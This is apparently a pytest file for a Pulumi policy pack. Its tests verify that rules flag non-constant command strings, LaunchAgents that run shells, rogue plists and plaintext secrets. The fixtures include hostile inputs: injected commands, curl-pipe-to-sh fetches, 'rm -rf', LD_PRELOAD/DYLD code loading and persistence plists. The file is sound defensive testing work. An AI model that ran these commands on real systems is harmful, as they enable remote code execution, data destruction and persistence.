"""The classes of host-side resources issue 9 found getting past the pack, one parametrized test per class:
command strings that are not the constant, LaunchAgents that hand their program to a shell or name a
relative path, plists written by other means than the LaunchAgent component, secrets in a command's
plain stdin/environment and in password flags."""

from __future__ import annotations

from typing import Any

import pytest
from rules.launch_agents import (
    absolute_launchagent_paths,
    launchagent_no_shell,
    launchd_plists_from_launchagents,
)
from rules.remote_commands import CREATE_COMMAND, DELETE_COMMAND, constant_command_strings
from rules.secrets import no_plaintext_secrets

from tests.policy.conftest import secret

COMMAND = "command:remote:Command"
LOCAL = "command:local:Command"
AGENT = "blumeops:host:LaunchAgent"
HOME = "/Users/erichblume"
ZOT = f"{HOME}/code/3rd/zot/bin/zot-darwin-arm64"


# -- constant-command-strings ----------------------------------------------------------------------------

@pytest.mark.parametrize(
    ("fields", "bad_field"),
    [
        ({"create": "/usr/bin/true; /usr/bin/touch pwned; -euo pipefail -s -- create"}, "create"),
        ({"create": "/opt/homebrew/bin/bash -euo pipefail -s -- create"}, "create"),
        ({"create": "/Users/me/my tools/bash -euo pipefail -s -- create"}, "create"),
        ({"create": "bash -euo pipefail -s -- create"}, "create"),
        ({"create": CREATE_COMMAND + " "}, "create"),
        ({"create": CREATE_COMMAND + "; id"}, "create"),
        ({"create": CREATE_COMMAND + "\nid"}, "create"),
        ({"create": "/bin/bash -euo pipefail -s -- CREATE"}, "create"),
        ({"create": "/BIN/BASH -euo pipefail -s -- create"}, "create"),
        ({"create": "/bin/bash -s -- create"}, "create"),
        ({"create": DELETE_COMMAND}, "create"),
        ({"create": "$(curl -s https://x | sh)"}, "create"),
        ({"create": CREATE_COMMAND, "delete": "rm -rf ~/.config/zot"}, "delete"),
        ({"create": CREATE_COMMAND, "delete": CREATE_COMMAND}, "delete"),
        ({"create": CREATE_COMMAND, "update": "/bin/bash -euo pipefail -s -- update"}, "update"),
        ({"create": CREATE_COMMAND, "update": DELETE_COMMAND}, "update"),
        ({"delete": DELETE_COMMAND}, "create"),
    ],
)
@pytest.mark.parametrize("resource_type", [COMMAND, LOCAL, "command:remote:command"])
def test_command_strings_are_the_constant(check: Any, resource_type: str, fields: dict[str, str],
                                          bad_field: str) -> None:
    [message] = check(constant_command_strings, resource_type, {"stdin": "echo", **fields}, name="step")
    assert f"`{bad_field}`" in message and "shell" in message


@pytest.mark.parametrize(
    "fields",
    [
        {"create": CREATE_COMMAND, "delete": DELETE_COMMAND},
        {"create": CREATE_COMMAND},
        {"create": CREATE_COMMAND, "update": CREATE_COMMAND, "delete": DELETE_COMMAND},
    ],
)
def test_constant_command_strings_pass(check: Any, fields: dict[str, str]) -> None:
    assert check(constant_command_strings, COMMAND, {"stdin": "readonly X='a b; c'\n", **fields}) == []


@pytest.mark.parametrize("name", ["BASH_ENV", "ENV", "SHELLOPTS", "PATH", "bash_env", "DYLD_INSERT_LIBRARIES",
                                  "LD_PRELOAD", "BASH_FUNC_log%%", "PS4", "IFS"])
def test_environment_that_is_shell_code(check: Any, name: str) -> None:
    props = {"create": CREATE_COMMAND, "delete": DELETE_COMMAND, "environment": {name: "/tmp/evil"}}
    [message] = check(constant_command_strings, COMMAND, props)
    assert f"environment.{name}" in message
    harmless = {"create": CREATE_COMMAND, "environment": {"LANG": "C", "TZ": "UTC"}}
    assert check(constant_command_strings, LOCAL, harmless) == []


def test_other_resources_have_no_command_string(check: Any) -> None:
    assert check(constant_command_strings, "command:remote:CopyToRemote", {"remotePath": "/tmp/x"}) == []
    assert check(constant_command_strings, AGENT, {"programArguments": ["/bin/date"]}) == []


# -- LaunchAgents: no shell, absolute paths ------------------------------------------------------------

def agent(arguments: list[str], **extra: Any) -> dict[str, Any]:
    return {"label": "mcquack.eblume.zot", "plistPath": f"{HOME}/Library/LaunchAgents/mcquack.eblume.zot.plist",
            "programArguments": arguments, "standardOutPath": f"{HOME}/Library/Logs/zot.log",
            "standardErrorPath": f"{HOME}/Library/Logs/zot.err", "runAtLoad": True, "keepAlive": True, **extra}


@pytest.mark.parametrize(
    "arguments",
    [
        ["/bin/sh", "-c", f"exec {ZOT} serve"],
        ["/bin/bash", "-c", f"{ZOT} serve"],
        ["/bin/bash", "-lc", f"{ZOT} serve"],
        ["/bin/bash", "-o", "pipefail", "-ec", f"{ZOT} serve"],
        ["/bin/zsh", "-c", f"{ZOT} serve"],
        ["/bin/dash", "-c", "true"],
        ["/bin/ksh", "-c", "true"],
        ["/bin/tcsh", "-c", "true"],
        ["/opt/homebrew/bin/fish", "-c", "true"],
        ["/bin/BASH", "-c", "true"],
        ["/bin/bash", "-s"],
        ["/bin/bash", "--init-file", f"{HOME}/x", "-i"],
        ["/usr/bin/env", "sh", "-c", "true"],
        ["/usr/bin/env", "-S", "/bin/sh -c 'zot serve'"],
        ["/usr/bin/env", "--split-string=bash -c true"],
        ["/usr/bin/sudo", "-u", "erichblume", "/bin/sh", "-c", "true"],
        ["/usr/bin/env", "-i", "A=1", "/bin/zsh", "-c", "true"],
        ["/usr/bin/nice", "-n", "5", "/bin/sh", "-c", "true"],
        ["/usr/bin/caffeinate", "-s", "/bin/bash", "-c", "true"],
        ["/usr/bin/timeout", "30", "/bin/sh", "-c", "true"],
        ["/usr/bin/xargs", "-0", "/bin/sh", "-c", "true"],
        ["/opt/homebrew/bin/bash5", "-c", "true"],
        ["/usr/bin/python3", "-c", "import os; os.system('zot')"],
        ["/opt/homebrew/bin/python3.12", "-c", "print(1)"],
        ["/usr/bin/perl", "-e", "system('zot')"],
        ["/usr/bin/ruby", "-e", "exec 'zot'"],
        ["/usr/bin/osascript", "-e", 'do shell script "zot"'],
        ["/opt/homebrew/bin/node", "-e", "require('child_process')"],
        # a launcher runs what it is handed in its own option syntax (issue 18): even a plain program behind it
        ["/usr/bin/env", "ZOT_LOG=info", ZOT, "serve"],
    ],
)
def test_launch_agent_never_hands_its_program_to_a_shell(check: Any, arguments: list[str]) -> None:
    [message] = check(launchagent_no_shell, AGENT, agent(arguments), name="zot-agent")
    assert "mcquack.eblume.zot" in message and "script file" in message


def test_launch_agent_program_key_is_judged_too(check: Any) -> None:
    [message] = check(launchagent_no_shell, AGENT, agent(["sh", "-c", "true"], program="/bin/sh"))
    assert "/bin/sh" in message
    messages = check(absolute_launchagent_paths, AGENT, agent([ZOT, "serve"], program="bin/zot"))
    assert any("program 'bin/zot' is a relative path" in m for m in messages), messages


@pytest.mark.parametrize(
    "arguments",
    [
        [ZOT, "serve", f"{HOME}/.config/zot/config.json"],
        ["/bin/bash", f"{HOME}/bin/zot-metrics", "agent"],
        ["/bin/bash", "--noprofile", f"{HOME}/bin/k8s-api-serve"],
        ["/usr/bin/python3", f"{HOME}/bin/script.py", "-c", "config"],
    ],
)
def test_launch_agent_programs_pass(check: Any, arguments: list[str]) -> None:
    assert check(launchagent_no_shell, AGENT, agent(arguments)) == []
    assert check(absolute_launchagent_paths, AGENT, agent(arguments)) == []


@pytest.mark.parametrize(
    ("arguments", "where"),
    [
        (["bin/zot", "serve"], "programArguments[0]"),
        (["../zot/bin/zot", "serve"], "programArguments[0]"),
        (["Zot", "serve"], "programArguments[0]"),
        ([ZOT, "serve", "../config.json"], "programArguments[2]"),
        ([ZOT, "serve", "zot/config.json"], "programArguments[2]"),
        ([ZOT, "serve", "--config=./zot.json"], "programArguments[2]"),
        ([ZOT, "serve", "-config=conf/zot.json"], "programArguments[2]"),
        ([ZOT, "serve", "~root/zot.json"], "programArguments[2]"),
        (["/usr/bin/env", "zot", "serve"], "programArguments[1]"),
        ([ZOT, "serve", "config.json"], "programArguments[2]"),
        ([ZOT, "serve", "--config=zot.YAML"], "programArguments[2]"),
        (["/bin/bash", "zot-metrics.sh", "agent"], "programArguments[1]"),
        (["/usr/bin/nice", "-n", "5", "zot"], "programArguments[3]"),
    ],
)
def test_launch_agent_relative_arguments(check: Any, arguments: list[str], where: str) -> None:
    messages = check(absolute_launchagent_paths, AGENT, agent(arguments))
    assert any(where in m for m in messages), messages


def test_a_file_name_is_fine_with_an_absolute_working_directory(check: Any) -> None:
    props = agent([ZOT, "serve", "config.json"], workingDirectory=f"{HOME}/.config/zot")
    assert check(absolute_launchagent_paths, AGENT, props) == []
    # version-like and host-like words are not file names
    assert check(absolute_launchagent_paths, AGENT, agent([ZOT, "serve", "v1.2", "indri.local", "0.0.0.0"])) == []


# -- plists written by other means ---------------------------------------------------------------------------

PLIST = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
<plist version="1.0">
<dict>
\t<key>Label</key>
\t<string>mcquack.eblume.x</string>
\t<key>ProgramArguments</key>
\t<array>
{arguments}
\t</array>
</dict>
</plist>"""


def plist(*arguments: str) -> str:
    return PLIST.format(arguments="\n".join(f"\t\t<string>{a}</string>" for a in arguments))


def install_step(stdin: str) -> dict[str, Any]:
    return {"create": CREATE_COMMAND, "delete": DELETE_COMMAND, "stdin": stdin}


@pytest.mark.parametrize(
    "props",
    [
        install_step(f"cat > {HOME}/Library/LaunchAgents/x.plist <<'EOF'\n{plist(ZOT)}\nEOF\n"),
        install_step(f"cp /tmp/x.plist {HOME}/library/launchagents/x.plist\n"),
        install_step("D=~/Library/LaunchAgents; cp /tmp/x \"$D\"\n"),
        install_step(f"readonly P='{plist(ZOT)}'\nprintf %s \"$P\" > \"$T\"\n"),
        install_step("sudo cp /tmp/x.plist /Library/LaunchDaemons/x.plist\n"),
        {"create": f"cp /tmp/x.plist {HOME}/Library/LaunchAgents/"},
        install_step(secret(f"cp x {HOME}/Library/LaunchAgents/")),
    ],
)
@pytest.mark.parametrize("parent", [None, "blumeops:host:ZotRegistry", "blumeops:phase:Phase"])
def test_plists_only_from_the_launch_agent_component(check: Any, props: dict[str, Any], parent: str | None) -> None:
    messages = check(launchd_plists_from_launchagents, COMMAND, props, name="sneaky", parent=parent, wire=True)
    assert any("not the install step of a blumeops:host:LaunchAgent" in m for m in messages), messages


@pytest.mark.parametrize("resource_type", ["command:remote:CopyToRemote", "command:remote:CopyFile"])
def test_a_plist_copied_into_place_is_another_means(check: Any, resource_type: str) -> None:
    props = {"remotePath": f"{HOME}/Library/LaunchAgents/evil.plist", "source": "x"}
    [message] = check(launchd_plists_from_launchagents, resource_type, props)
    assert "`remotePath`" in message


def test_a_retirement_moves_its_own_plist_but_writes_none(check: Any) -> None:
    """A legacy service's retirement names ~/Library/LaunchAgents (it moves the service's plist aside and back);
    a plist document in it is still a plist written outside the LaunchAgent component."""
    retirement = "blumeops:host:LegacyServiceRetirement"
    moves = install_step(f"readonly PLIST_PATH={HOME}/Library/LaunchAgents/homebrew.mxcl.grafana.plist\n")
    assert check(launchd_plists_from_launchagents, COMMAND, moves, parent=retirement) == []
    writes = install_step(f"cat > {HOME}/Library/LaunchAgents/x.plist <<'EOF'\n{plist(ZOT)}\nEOF\n")
    messages = check(launchd_plists_from_launchagents, COMMAND, writes, parent=retirement)
    assert any("not the install step of a blumeops:host:LaunchAgent" in m for m in messages), messages


def test_the_launch_agent_install_step_passes(check: Any) -> None:
    stdin = f"readonly PLIST='{plist(ZOT, 'serve', HOME + '/.config/zot/config.json')}'\n" \
            f"readonly PLIST_PATH={HOME}/Library/LaunchAgents/mcquack.eblume.x.plist\n"
    assert check(launchd_plists_from_launchagents, COMMAND, install_step(stdin), parent=AGENT) == []
    # a command that never mentions launchd directories is none of this rule's business
    assert check(launchd_plists_from_launchagents, COMMAND, install_step("echo hi\n")) == []


def test_a_comment_that_names_the_launchd_directory_writes_nothing(check: Any) -> None:
    comment = "  # kept in ~/.blumeops, never beside it (launchd would read a 2nd plist in ~/Library/LaunchAgents)\n"
    assert check(launchd_plists_from_launchagents, COMMAND, install_step(comment + "echo hi\n")) == []
    write = comment + f"cp /tmp/x.plist {HOME}/Library/LaunchAgents/evil.plist  # not a comment line\n"
    [message] = check(launchd_plists_from_launchagents, COMMAND, install_step(write))
    assert "writes into ~/Library/LaunchAgents" in message


@pytest.mark.parametrize(
    ("arguments", "expected"),
    [
        (("/bin/sh", "-c", "zot serve"), "shell code"),
        (("zot", "serve"), "bare command name"),
        (("~/bin/zot",), "`~`"),
        (("/usr/bin/osascript", "-e", "x"), "osascript"),
    ],
)
def test_the_plist_an_install_step_carries_is_judged(check: Any, arguments: tuple[str, ...], expected: str) -> None:
    stdin = f"readonly PLIST='{plist(*arguments)}'\n"
    messages = check(launchd_plists_from_launchagents, COMMAND, install_step(stdin), parent=AGENT)
    assert any(expected in m and "mcquack.eblume.x" in m for m in messages), messages


def test_an_unreadable_plist_is_a_violation(check: Any) -> None:
    stdin = "readonly PLIST='<plist version=\"1.0\"><dict><key>Label</dict></plist>'\n"
    [message] = check(launchd_plists_from_launchagents, COMMAND, install_step(stdin), parent=AGENT)
    assert "cannot be read" in message


# -- secrets: plain stdin/environment, password flags ------------------------------------------------------

@pytest.mark.parametrize(
    "command",
    [
        "mysql -u root -pHunter2 blumeops",
        "mariadb-dump --user=root -pHunter2 db",
        "psql --password hunter2",
        "tool --PASSWORD=hunter2",
        "initdb --root-passwd=hunter2",
        "forgejo admin user create --admin-password hunter2",
        "tailscale up --authkey=abc123",
        "gh auth login --token ghx_abc",
        "oauth --client-secret s3cr3t",
        "restic --api-key=abc",
        "sshpass -p hunter2 ssh indri",
        "redis-cli -h r -a hunter2 ping",
        "curl -u admin:hunter2 https://grafana/api",
        "curl --user=admin:hunter2 https://grafana/api",
        "PGPASSWORD=hunter2 psql",
        "API_TOKEN=abc123 ./deploy",
        "export GRAFANA_ADMIN_PASSWORD=hunter2",
        "env db_password=hunter2 app",
    ],
)
def test_password_flags_in_command_strings(check: Any, command: str) -> None:
    messages = check(no_plaintext_secrets, COMMAND, {"create": command}, name="step")
    assert messages and all("`create`" in m for m in messages), messages


@pytest.mark.parametrize(
    "command",
    [
        "docker login --password-stdin registry",
        "tool --password-file /Users/me/.pw",
        "tool --token-file=/Users/me/.tok",
        'psql --password "$PGPASS"',
        "gh auth login --token $GH_TOKEN",
        "ssh -p 22 indri",
        "mkdir -p /Users/me/bin",
        "minikube -p minikube status",
        "curl -u \"$U:$P\" https://x",
        "date -u +%Y-%m-%dT%H:%M:%SZ",
        "SECRET_NAME=db-creds kubectl get secret",
        "PASSWORD_FILE=/run/pw app",
        CREATE_COMMAND,
    ],
)
def test_no_false_alarm_on_ordinary_flags(check: Any, command: str) -> None:
    assert check(no_plaintext_secrets, COMMAND, {"create": command}) == []


@pytest.mark.parametrize(
    ("props", "field"),
    [
        ({"stdin": "readonly DB_PASSWORD='hunter2'\n"}, "`stdin`"),
        ({"stdin": "readonly CREDENTIALS_JSON='{\"u\": 1}'\n"}, "`stdin`"),
        ({"stdin": "tailscale up --auth-key=tskey-auth-abc123\n"}, "`stdin`"),
        ({"stdin": "mysql -pHunter2\n"}, "`stdin`"),
        ({"environment": {"DB_PASSWORD": "hunter2"}}, "environment.DB_PASSWORD"),
        ({"environment": {"api_token": "abc"}}, "environment.api_token"),
        ({"environment": {"TS_AUTHKEY": "tskey-auth-abc123"}}, "environment.TS_AUTHKEY"),
        ({"environment": {"DSN": "postgres://app:hunter2@db/app"}}, "environment.DSN"),
    ],
)
def test_secrets_in_plain_stdin_or_environment(check: Any, props: dict[str, Any], field: str) -> None:
    plain = {"create": CREATE_COMMAND, **props}
    messages = check(no_plaintext_secrets, COMMAND, plain, wire=True)
    assert messages and all(field in m and "not marked secret" in m for m in messages), messages
    # the same value marked secret (as pulumi.Output.secret sends it) passes: wire form per field ...
    marked = {"create": CREATE_COMMAND, **{k: _mark(v) for k, v in props.items()}}
    assert check(no_plaintext_secrets, COMMAND, marked, wire=True) == []
    # ... and without the engine's wire form the pack cannot know: it does not trust the value
    assert check(no_plaintext_secrets, COMMAND, plain) != []


def _mark(value: Any) -> Any:
    if isinstance(value, dict):
        return {key: secret(item) for key, item in value.items()}
    return secret(value)


def test_whole_environment_marked_secret_passes(check: Any) -> None:
    props = {"create": CREATE_COMMAND, "environment": secret({"DB_PASSWORD": "hunter2"})}
    assert check(no_plaintext_secrets, COMMAND, props, wire=True) == []


def test_plain_stdin_without_secrets_passes(check: Any) -> None:
    stdin = ("readonly STEP=zot-config\nreadonly PASSWORD_FILE=/Users/me/.pw\nreadonly TOKEN_PATH=/x\n"
             "readonly OAUTH_TOKEN_URL=https://api.tailscale.com/api/v2/oauth/token\nreadonly SECRET_NAME=x\n")
    assert check(no_plaintext_secrets, COMMAND, {"create": CREATE_COMMAND, "stdin": stdin}, wire=True) == []


@pytest.mark.parametrize(
    ("props", "expected"),
    [
        (agent([ZOT, "serve", "--token", "abc123"]), "programArguments"),
        (agent([ZOT, "serve"], environmentVariables={"ZOT_PASSWORD": "hunter2"}), "ZOT_PASSWORD"),
        (agent([ZOT, "serve"], environmentVariables={"URL": "https://u:hunter2@x/"}), "environmentVariables.URL"),
    ],
)
def test_no_secret_in_a_launch_agent_plist(check: Any, props: dict[str, Any], expected: str) -> None:
    messages = check(no_plaintext_secrets, AGENT, props)
    assert messages and all(expected in m for m in messages), messages


def test_odd_type_spelling_does_not_skip_the_secret_checks(check: Any) -> None:
    assert check(no_plaintext_secrets, "blumeops:host:launchagent", agent([ZOT, "--token", "abc123"])) != []
    from rules.remote_commands import ssh_pinned_host_key

    assert check(ssh_pinned_host_key, "command:remote:command", {"create": CREATE_COMMAND}) != []


def test_launch_agent_without_secrets_passes(check: Any) -> None:
    props = agent([ZOT, "serve"], environmentVariables={"PATH": "/usr/bin:/bin", "TOKEN_FILE": f"{HOME}/.t"})
    assert check(no_plaintext_secrets, AGENT, props) == []
    # a value from the stack's secrets is marked; ops plan's leak check covers the rendered plist
    marked = agent([ZOT, "serve"], environmentVariables={"ZOT_PASSWORD": secret("hunter2")})
    assert check(no_plaintext_secrets, AGENT, marked, wire=True) == []


@pytest.mark.parametrize(
    ("resource_type", "props", "expected"),
    [
        ("kubernetes:apps/v1:Deployment", {"spec": {"template": {"spec": {"containers": [
            {"name": "app", "image": "x:1", "args": ["--db-password=hunter2"]}]}}}}, "container 'app'"),
        ("kubernetes:batch/v1:CronJob", {"spec": {"jobTemplate": {"spec": {"template": {"spec": {"containers": [
            {"name": "dump", "command": ["/bin/sh", "-c", "PGPASSWORD=hunter2 pg_dump"]}]}}}}}}, "container 'dump'"),
        ("kubernetes:helm.sh/v4:Chart", {"values": {"server": {"extraEnv": [
            {"name": "ADMIN_PASSWORD", "value": "hunter2"}]}}}, "values.server.extraEnv"),
        ("kubernetes:apps/v1:DeploymentPatch", {"spec": {"template": {"spec": {"containers": [
            {"name": "w", "env": [{"name": "AGENT_SECRET", "value": "x"}]}]}}}}, "AGENT_SECRET"),
        ("kubernetes:core/v1:configmap", {"data": {"app.ini": "password = hunter2"}}, "data.app.ini"),
    ],
)
def test_secrets_in_kubernetes_plain_text(check: Any, resource_type: str, props: dict[str, Any],
                                          expected: str) -> None:
    messages = check(no_plaintext_secrets, resource_type, props)
    assert messages and any(expected in m for m in messages), messages


def test_an_unknown_text_of_a_command_is_raised_after_the_rest(check: Any) -> None:
    from pulumi_policy.proxy import UnknownValueError

    reported: list[str] = []
    props = {"stdin": "04da6b54-80e4-46f7-96ec-b56ff0331ba9", "create": f"cp x {HOME}/Library/LaunchAgents/"}
    with pytest.raises(UnknownValueError):
        check(launchd_plists_from_launchagents, COMMAND, props, sink=reported)
    assert any("`create`" in m for m in reported), reported


@pytest.mark.parametrize(
    "values",
    [
        {"adminPassword": "hunter2"},
        {"auth": {"clientSecret": "s3cr3t"}},
        {"config": {"api_token": "abc"}},
        {"minio": {"secretKey": "abc"}},
        {"gitea": {"admin": {"PASSWORD": "hunter2"}}},
        {"extra": [{"privateKey": "-----BEGIN"}]},
    ],
)
@pytest.mark.parametrize("chart_type", ["kubernetes:helm.sh/v4:Chart", "kubernetes:helm.sh/v3:Release"])
def test_chart_values_holding_a_secret_must_be_marked(check: Any, chart_type: str, values: dict[str, Any]) -> None:
    [message] = check(no_plaintext_secrets, chart_type, {"chart": "x", "values": values}, wire=True)
    assert "not marked secret" in message and "values." in message
    marked = {"chart": "x", "values": secret(values)}
    assert check(no_plaintext_secrets, chart_type, marked, wire=True) == []


@pytest.mark.parametrize(
    "values",
    [
        {"auth": {"existingSecret": "grafana-admin", "passwordKey": "password", "secretName": "x"}},
        {"oauth": {"clientSecret": "", "clientId": ""}},
        {"tokenSecretRef": {"name": "t", "key": "token"}, "createSecret": "true", "tokenTTL": "1h"},
        {"password": "$(ADMIN_PASSWORD)"},
    ],
)
def test_chart_values_that_point_at_secrets_pass(check: Any, values: dict[str, Any]) -> None:
    assert check(no_plaintext_secrets, "kubernetes:helm.sh/v4:Chart", {"chart": "x", "values": values}) == []


@pytest.mark.parametrize("name", ["BASH_ENV", "ENV", "DYLD_INSERT_LIBRARIES", "dyld_library_path", "LD_PRELOAD",
                                  "PERL5OPT", "PYTHONPATH", "NODE_OPTIONS", "ZDOTDIR"])
def test_an_environment_that_loads_code_is_refused(check: Any, name: str) -> None:
    props = {**agent(["/opt/homebrew/bin/bash", "/Users/erichblume/bin/x", "agent"]),
             "environmentVariables": {"PATH": "/usr/bin:/bin", name: "/Users/erichblume/evil"}}
    [message] = check(launchagent_no_shell, AGENT, props, name="x-agent")
    assert name in message and "load code" in message
    plain = {**props, "environmentVariables": {"PATH": "/usr/bin:/bin", "TZ": "UTC", "LANG": "C"}}
    assert check(launchagent_no_shell, AGENT, plain, name="x-agent") == []



@pytest.mark.parametrize("interpreter", [
    ["/bin/sh", "-c", "curl -fsS https://example.invalid/x | sh"],  # code past -c, the command string its $0
    ["/usr/bin/python3", "-c"], ["/bin/zsh", "-c"], ["/bin/sh", "-xc"], "/bin/sh",
])
def test_a_local_command_may_not_hide_code_in_its_interpreter(check: Any, interpreter: Any) -> None:
    props = {"create": CREATE_COMMAND, "delete": DELETE_COMMAND, "stdin": "echo", "interpreter": interpreter}
    [message] = check(constant_command_strings, "command:local:Command", props, name="step")
    assert "`interpreter`" in message


@pytest.mark.parametrize("interpreter", [None, ["/bin/sh", "-c"], ["/bin/bash", "-c"]])
def test_the_plain_interpreters_pass(check: Any, interpreter: Any) -> None:
    props = {"create": CREATE_COMMAND, "delete": DELETE_COMMAND, "stdin": "echo"}
    if interpreter is not None:
        props["interpreter"] = interpreter
    assert check(constant_command_strings, "command:local:Command", props, name="step") == []
